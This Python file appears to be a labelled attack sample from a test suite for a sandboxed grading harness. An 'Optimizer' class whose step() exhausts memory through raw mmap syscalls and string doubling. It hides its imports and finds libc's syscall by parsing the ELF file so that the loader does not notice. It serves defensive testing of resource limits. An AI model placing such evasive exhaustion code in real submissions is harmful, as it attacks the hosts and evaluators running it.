"""Attack: takes memory where Python does not count it: bytearray, mmap, shared mappings, brk, a string doubled again and again.

Exercise: optimizer
Earns: 0
Stopped by: rlimits (address space)
Levels: full, container
"""

import random
import struct

import numpy as np

os = getattr(random, bytes((95, 111, 115)).decode())
ctypes = getattr(np, "".join(("ctypes", "lib"))).ctypes


def function_of_c(name):
    """Find *name* in the C library's own file: asking the loader for it would be noticed."""
    with open("/proc/self/maps") as file:
        row = next(line.split() for line in file if line.rstrip().endswith("/libc.so.6"))
    with open(row[-1], "rb") as file:
        data = file.read()
    (table,), (width, count) = struct.unpack_from("<Q", data, 40), struct.unpack_from("<HH", data, 58)
    sections = [struct.unpack_from("<IIQQQQIIQQ", data, table + i * width) for i in range(count)]
    symbols = next(s for s in sections if s[1] == 11)
    names = sections[symbols[6]][4]
    for at in range(symbols[4], symbols[4] + symbols[5], 24):
        start, _, _, _, value, _ = struct.unpack_from("<IBBHQQ", data, at)
        if data.startswith(name + b"\0", names + start):
            address = int(row[0].split("-")[0], 16) + value
            return ctypes.CFUNCTYPE(ctypes.c_long, *[ctypes.c_long] * 7, use_errno=True)(address)


syscall = function_of_c(b"syscall")


def call(*numbers):
    return syscall(*numbers, *[0] * (7 - len(numbers)))

PAGES = 2**28


def take():
    total = 0
    for flags in (0x22, 0x21, 0x8022, 0x40022):  # private, shared, populated, huge pages
        for _ in range(16):
            place = call(9, 0, PAGES, 3, flags, -1, 0)
            if place in (-1, 0):
                break
            total += PAGES
    if total > 2**32:
        print("BREACH mapped", total)
    text = "x" * 2**20
    try:
        for _ in range(14):
            text += text
        print("BREACH a text of", len(text))
    except MemoryError:
        pass


class Optimizer:
    def __init__(self, params, lr):
        self.params, self.lr = list(params), lr

    def step(self):
        take()

    def zero_grad(self):
        pass
